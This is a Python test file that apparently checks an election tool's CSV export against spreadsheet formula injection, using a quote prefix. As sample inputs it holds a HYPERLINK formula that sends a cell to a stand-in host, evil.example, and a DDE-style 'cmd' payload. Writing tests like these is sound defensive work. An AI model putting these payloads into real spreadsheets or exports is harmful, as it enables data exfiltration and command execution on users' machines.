"""CSV outputs are safe to open in a spreadsheet (issue 13 item 7, OWASP "CSV Injection").

A text cell starting with ``=``, ``+``, ``-``, ``@``, tab or carriage return gets a leading ``'``;
numbers (negative ones too) are written as they are; saylau's own protocol files read back unchanged.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from saylau.cli import main
from saylau.formats import csvsafe

ATTACK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.mark.parametrize("cell", [ATTACK, "+1+2", "-2+3*cmd|' /C calc'!A0", "@SUM(A1:A9)", "\t=1", "\r=1",
                                  "-", "+", "=", "-x", "'=1"])
def test_a_risky_text_cell_is_prefixed_with_a_quote(cell: str) -> None:
    assert csvsafe.neutralise(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["-12", "+3", "-0.5", "12.5%", "-1,5", "1e5", "-2E-3", "Nur Otan", "", "a=b",
                                  "'quoted", "12"])
def test_numbers_and_plain_text_stay_as_they_are(cell: str) -> None:
    assert csvsafe.neutralise(cell) == cell


@pytest.mark.parametrize("value", [-12, 0, 7, None])
def test_non_text_cells_pass_through(value: object) -> None:
    assert csvsafe.neutralise(value) == value


@given(st.text(max_size=12))
def test_restore_undoes_neutralise(text: str) -> None:
    safe = csvsafe.neutralise(text)
    assert csvsafe.restore(safe) == text
    assert not (safe[:1] in ("=", "+", "-", "@", "\t", "\r") and safe != text)


def test_the_writer_neutralises_every_cell_of_every_row() -> None:
    out = io.StringIO()
    writer = csvsafe.writer(out)
    writer.writerow(["party", "votes"])
    writer.writerows([[ATTACK, -5], ["@x", 3]])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [["party", "votes"], ["'" + ATTACK, "-5"], ["'@x", "3"]]


def _votes(tmp_path: Path) -> str:
    path = tmp_path / "votes.csv"
    with path.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows([["party", "votes"], [ATTACK, 600], ["-Minus", 300], ["Plain", 100]])
    return str(path)


def test_allocate_csv_neutralises_party_names(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["allocate", _votes(tmp_path), "--method", "hare", "--seats", "10", "--format", "csv"]) == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert [r["party"] for r in rows] == ["'" + ATTACK, "'-Minus", "Plain"]
    assert [r["votes"] for r in rows] == ["600", "300", "100"]  # numbers untouched


def test_results_csv_neutralises_party_names(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    db = f"sqlite:///{tmp_path / 's.sqlite'}"
    assert main(["load", "kz-2021", "--db", db]) == 0
    capsys.readouterr()
    assert main(["results", "--election", "kz-2021", "--db", db, "--format", "csv"]) == 0
    out = capsys.readouterr().out
    for row in csv.reader(io.StringIO(out)):
        for cell in row:
            assert not cell.startswith(("=", "+", "@", "\t", "\r")) and (not cell.startswith("-") or
                                                                      cell.lstrip("-").replace(".", "").isdigit())


def test_report_csv_cells_are_safe(tmp_path: Path) -> None:
    out = tmp_path / "r.csv"
    assert main(["report", "--election", "kz-2021", "--format", "csv", "-o", str(out)]) == 0
    with out.open(encoding="utf-8", newline="") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    risky = [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r")) and not csvsafe._NUMBER.fullmatch(c)]
    assert risky == []
    assert any(c.startswith("-") and c[1:].isdigit() for c in cells)  # a negative change stays a number
